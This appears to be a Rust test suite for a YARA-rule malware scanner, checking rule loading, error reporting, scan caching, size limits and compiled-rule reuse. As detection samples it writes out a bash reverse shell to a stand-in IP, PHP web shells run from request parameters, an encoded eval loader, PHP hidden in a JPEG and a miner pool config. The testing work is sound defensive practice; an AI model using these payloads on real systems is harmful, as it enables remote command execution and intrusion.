//! Scanning with real rules and real files: the shipped rules, the external variables, broken
//! rule files, the cache and the size cap.

use super::*;
use std::path::{Path, PathBuf};

/// Built at run time so that this source file is not itself the EICAR test file's content.
fn eicar() -> Vec<u8> {
    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat().into_bytes()
}

fn shipped_rules() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/yara")
}

fn rules_from(files: &[(&str, &str)]) -> (tempfile::TempDir, Result<Rules, anyhow::Error>) {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).expect("write rule");
    }
    let rules = Rules::load(&[dir.path().to_path_buf()]);
    (dir, rules)
}

fn names(scan: &Scan) -> Vec<String> {
    scan.matches.iter().map(|m| format!("{}:{}", m.namespace, m.rule)).collect()
}

#[test]
fn the_shipped_rules_load_cleanly_and_find_their_samples() {
    let rules = Rules::load(&[shipped_rules()]).expect("shipped rules load");
    assert!(rules.report.problems.is_empty(), "{:?}", rules.report.problems);
    assert_eq!(rules.report.files, 4);
    let cache = ScanCache::new(100);
    let mut scanner = Scanner::new(&rules, &cache, 1 << 20);
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend_from_slice(b"\0\0usage: --donate-level N\0stratum+tcp://pool.example.org:3333\0");
    let mut jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec();
    jpeg.extend_from_slice(b"<?php system($_GET['c']); ?>");
    let samples: [(&str, &[u8], &[&str]); 8] = [
        ("eicar.com", &eicar(), &["eicar:eicar_test_file"]),
        ("xmr", &elf, &["linux_miner:linux_elf_stratum_miner"]),
        (
            "config.json",
            br#"{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}"#,
            &["linux_miner:miner_config_stratum"],
        ),
        ("up.php", b"<?php @eval($_POST['x']); ?>", &["php_webshell:php_webshell_request_exec"]),
        (
            "cache.php",
            b"<?php eval(gzinflate(base64_decode('80jNycnXUQjPL8pJUQQA'))); ?>",
            &["php_webshell:php_webshell_encoded_loader"],
        ),
        ("logo.jpg", &jpeg, &["php_webshell:php_webshell_request_exec", "php_webshell:php_in_image"]),
        ("x.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", &["reverse_shell:reverse_shell_script"]),
        ("notes.txt", "Ghi chú: bash là một shell; eval() là một hàm PHP.\n".as_bytes(), &[]),
    ];
    for (name, content, expected) in samples {
        let scan = scanner.scan_bytes(Path::new(name), content).expect("scan");
        assert_eq!(names(&scan), *expected, "{name}");
    }
}

#[test]
fn eicar_in_a_file_is_found_with_its_hash_and_becomes_an_event() {
    let rules = Rules::load(&[shipped_rules()]).expect("rules");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("eicar.com");
    std::fs::write(&path, eicar()).expect("write");
    let cache = ScanCache::new(100);
    let scan = Scanner::new(&rules, &cache, 1 << 20).scan_file(&path).expect("scan");
    let expected_sha = ring::digest::digest(&ring::digest::SHA256, &eicar());
    assert_eq!(scan.sha256.as_slice(), expected_sha.as_ref());
    let [m] = scan.matches.as_slice() else { panic!("one match expected: {:?}", scan.matches) };
    let event = m.to_event();
    assert_eq!((event.rule.as_str(), event.namespace.as_str()), ("eicar_test_file", "eicar"));
    assert_eq!(event.tags, vec!["test".to_string()]);
    assert_eq!(event.path.as_str(), path.to_str().expect("utf-8 temp path"));
    assert_eq!(event.sha256, Some(scan.sha256));
}

#[test]
fn external_variables_describe_each_file() {
    let (dir, rules) = rules_from(&[(
        "ext.yar",
        r#"
        rule php_by_name { condition: filename matches /\.php$/ }
        rule by_extension { condition: extension == ".php" }
        rule elf_type { condition: filetype == "ELF" }
        rule in_www { condition: filepath contains "/www/" }
        rule owned { condition: owner != "" }
        "#,
    )]);
    let rules = rules.expect("rules");
    let cache = ScanCache::new(100);
    let mut scanner = Scanner::new(&rules, &cache, 1 << 20);
    let www = dir.path().join("www");
    std::fs::create_dir(&www).expect("mkdir");
    for (name, content) in [("a.php", &b"<?php"[..]), ("a.txt", b"<?php"), ("tool", b"\x7fELF\x02\x01")] {
        std::fs::write(www.join(name), content).expect("write");
    }
    let rules_of = |scanner: &mut Scanner, name: &str| {
        let scan = scanner.scan_file(&www.join(name)).expect("scan");
        scan.matches.into_iter().map(|m| m.rule).collect::<Vec<_>>()
    };
    assert_eq!(rules_of(&mut scanner, "a.php"), ["php_by_name", "by_extension", "in_www", "owned"]);
    // The same content under another name: not answered from the cache.
    assert_eq!(rules_of(&mut scanner, "a.txt"), ["in_www", "owned"]);
    assert_eq!(rules_of(&mut scanner, "tool"), ["elf_type", "in_www", "owned"]);
    // Buffers have a name but no owner.
    let scan = scanner.scan_bytes(Path::new("/srv/x.php"), b"").expect("scan");
    assert_eq!(names(&scan), ["ext:php_by_name", "ext:by_extension"]);
}

#[test]
fn a_broken_rule_file_is_reported_with_its_line_and_the_others_load() {
    let (dir, rules) = rules_from(&[
        ("a_good.yar", "rule good_one { strings: $a = \"malicious\" condition: $a }\n"),
        ("b_broken.yara", "rule fine { condition: true }\n\nrule broken {\n  condition: $missing\n}\n"),
        (
            "c_module.yar",
            "import \"cuckoo\"\nrule needs_cuckoo { condition: cuckoo.sync.mutex(/x/) }\nrule plain { strings: $p = \"plain\" condition: $p }\n",
        ),
        ("d_syntax.yar", "rule oops {\n  strings: $a = \"x\"\n  condition: $a and\n}\n"),
        ("ignored.txt", "not a rule file"),
    ]);
    let rules = rules.expect("the good files load");
    let report = &rules.report;
    assert_eq!(report.files, 4);
    // An unreadable rule file is reported too, and the others still load.
    std::os::unix::fs::symlink(dir.path().join("nowhere"), dir.path().join("e_dangling.yar")).expect("symlink");
    let again = Rules::load(&[dir.path().to_path_buf()]).expect("the good files load");
    assert_eq!((again.report.files, again.report.rules), (5, rules.report.rules));
    let dangling = dir.path().join("e_dangling.yar");
    assert!(
        again.report.problems.iter().any(|p| p.file == dangling && p.reason.starts_with("cannot read")),
        "{:?}",
        again.report.problems
    );
    let broken = dir.path().join("b_broken.yara");
    let syntax = dir.path().join("d_syntax.yar");
    let module = dir.path().join("c_module.yar");
    let problem = |file: &Path| report.problems.iter().find(|p| p.file == file && p.line.is_some());
    let b = problem(&broken).unwrap_or_else(|| panic!("broken file reported: {:?}", report.problems));
    assert_eq!(b.line, Some(4), "{b}");
    assert!(b.reason.contains("unknown pattern"), "{b}");
    assert!(b.to_string().starts_with(&format!("{}:4: ", broken.display())), "{b}");
    let s = problem(&syntax).unwrap_or_else(|| panic!("syntax error reported: {:?}", report.problems));
    assert_eq!(s.line, Some(4), "{s}");
    assert!(
        report
            .problems
            .iter()
            .any(|p| p.file == module && p.reason.contains("needs_cuckoo") && p.reason.contains("\"cuckoo\"")),
        "{:?}",
        report.problems
    );
    let cache = ScanCache::new(10);
    let scan = Scanner::new(&rules, &cache, 1 << 20).scan_bytes(Path::new("x"), b"malicious plain").expect("scan");
    let found = names(&scan);
    assert!(
        found.contains(&"a_good:good_one".to_string()) && found.contains(&"c_module:plain".to_string()),
        "{found:?}"
    );
    assert!(!found.iter().any(|n| n.ends_with(":broken") || n.ends_with(":oops")), "{found:?}");
}

#[test]
fn no_usable_rule_is_an_error_naming_the_problem() {
    let (_dir, rules) = rules_from(&[("bad.yar", "rule {")]);
    let e = rules.err().expect("refused").to_string();
    assert!(e.contains("no YARA rule could be loaded") && e.contains("bad.yar:1"), "{e}");
    let (_dir, rules) = rules_from(&[]);
    assert!(rules.err().expect("refused").to_string().contains("no .yar or .yara files"));
    let e = Rules::load(&[PathBuf::from("/nonexistent/yara")]).err().expect("refused").to_string();
    assert!(e.contains("/nonexistent/yara"), "{e}");
}

#[test]
fn unchanged_content_is_answered_from_the_cache() {
    let rules = Rules::load(&[shipped_rules()]).expect("rules");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("sample.com");
    std::fs::write(&path, eicar()).expect("write");
    let cache = ScanCache::new(100);
    let mut scanner = Scanner::new(&rules, &cache, 1 << 20);
    let first = scanner.scan_file(&path).expect("scan");
    let second = scanner.scan_file(&path).expect("scan");
    assert!(!first.cached && second.cached);
    assert_eq!(first.matches, second.matches);
    // A second scanner sharing the cache (another thread) benefits too.
    assert!(Scanner::new(&rules, &cache, 1 << 20).scan_file(&path).expect("scan").cached);
    std::fs::write(&path, b"harmless now").expect("rewrite");
    let third = scanner.scan_file(&path).expect("scan");
    assert!(!third.cached && third.matches.is_empty());
    assert_eq!(cache.len(), 2);
}

#[test]
fn a_copy_is_answered_from_the_cache_when_no_rule_uses_externals() {
    let (dir, rules) = rules_from(&[("m.yar", "rule marker { strings: $m = \"haidang-marker\" condition: $m }\n")]);
    let rules = rules.expect("rules");
    let (a, b) = (dir.path().join("a.txt"), dir.path().join("b.bin"));
    for p in [&a, &b] {
        std::fs::write(p, "... haidang-marker ...").expect("write");
    }
    let cache = ScanCache::new(10);
    let mut scanner = Scanner::new(&rules, &cache, 1 << 20);
    assert!(!scanner.scan_file(&a).expect("scan").cached);
    let copy = scanner.scan_file(&b).expect("scan");
    assert!(copy.cached);
    assert_eq!(
        copy.matches.iter().map(|m| (m.rule.as_str(), m.path.as_path())).collect::<Vec<_>>(),
        [("marker", b.as_path())]
    );
}

#[test]
fn files_over_the_size_cap_are_refused_not_skipped_silently() {
    let rules = Rules::load(&[shipped_rules()]).expect("rules");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("big.bin");
    std::fs::write(&path, vec![b'A'; 4097]).expect("write");
    let cache = ScanCache::new(10);
    let mut scanner = Scanner::new(&rules, &cache, 4096);
    let e = scanner.scan_file(&path).expect_err("too large");
    assert!(matches!(e, ScanError::TooLarge { size: 4097, limit: 4096 }), "{e:?}");
    assert!(e.to_string().contains("larger than the scan size limit"), "{e}");
    assert!(matches!(scanner.scan_bytes(&path, &[0; 5000]), Err(ScanError::TooLarge { .. })));
    std::fs::write(&path, vec![b'A'; 4096]).expect("write");
    assert!(scanner.scan_file(&path).is_ok());
    assert!(matches!(scanner.scan_file(dir.path()), Err(ScanError::NotAFile)));
}

/// Scanners sharing rules take turns with large files: while one holds the turn, a large file
/// waits and a small one does not.
#[test]
fn large_files_are_scanned_one_at_a_time() {
    use std::sync::mpsc;
    use std::time::Duration;
    let dir = tempfile::tempdir().expect("tempdir");
    let (small, large) = (dir.path().join("small.bin"), dir.path().join("large.bin"));
    std::fs::write(&small, eicar()).expect("write");
    std::fs::write(&large, vec![0u8; scanner::LARGE_FILE as usize]).expect("write");
    let rules = Rules::load(&[shipped_rules()]).expect("rules");
    let cache = ScanCache::new(100);
    let (done_tx, done) = mpsc::channel();
    std::thread::scope(|s| {
        let turn = rules.large_file_turn.lock().expect("turn");
        for path in [&large, &small] {
            let (rules, cache, done_tx) = (&rules, &cache, done_tx.clone());
            s.spawn(move || {
                let scan = Scanner::new(rules, cache, 1 << 30).scan_file(path).expect("scan");
                done_tx.send((path.clone(), scan.size)).expect("send");
            });
        }
        let first = done.recv_timeout(Duration::from_secs(30)).expect("the small file is scanned at once");
        assert_eq!(first, (small.clone(), eicar().len() as u64));
        assert!(done.recv_timeout(Duration::from_millis(500)).is_err(), "a large file was scanned out of turn");
        drop(turn);
        let second = done.recv_timeout(Duration::from_secs(30)).expect("the large file is scanned in its turn");
        assert_eq!(second, (large.clone(), scanner::LARGE_FILE));
    });
}

/// Compiled rules are kept, used again while nothing changed, and compiled over when the kept
/// file is damaged; the compile-apart child's entry point fills the same cache.
#[test]
fn compiled_rules_are_kept_used_again_and_never_trusted_damaged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cache = RuleCache::new(dir.path().join("yara-rules"));
    let paths = [shipped_rules()];
    let (compiled, origin) = cache.load(&paths).expect("compile");
    assert_eq!(origin, Origin::Compiled);
    let (cached, origin) = cache.load(&paths).expect("load");
    assert_eq!(origin, Origin::Cached);
    assert_eq!((cached.report.files, cached.report.rules), (compiled.report.files, compiled.report.rules));
    let scan_cache = ScanCache::new(10);
    let scan = Scanner::new(&cached, &scan_cache, 1 << 20).scan_bytes(Path::new("x.com"), &eicar()).expect("scan");
    assert_eq!(names(&scan), ["eicar:eicar_test_file"]);

    let kept: Vec<PathBuf> = std::fs::read_dir(cache.dir()).expect("list").map(|e| e.expect("entry").path()).collect();
    let [file] = kept.as_slice() else { panic!("one compiled rule file expected: {kept:?}") };
    let mut bytes = std::fs::read(file).expect("read");
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(file, bytes).expect("damage");
    assert_eq!(cache.load(&paths).expect("compile over").1, Origin::Compiled);

    std::fs::remove_file(file).expect("remove");
    compile_child_main(CompileArgs { cache: cache.dir().to_path_buf(), paths: paths.to_vec() }).expect("child");
    assert_eq!(cache.load(&paths).expect("load").1, Origin::Cached);
}
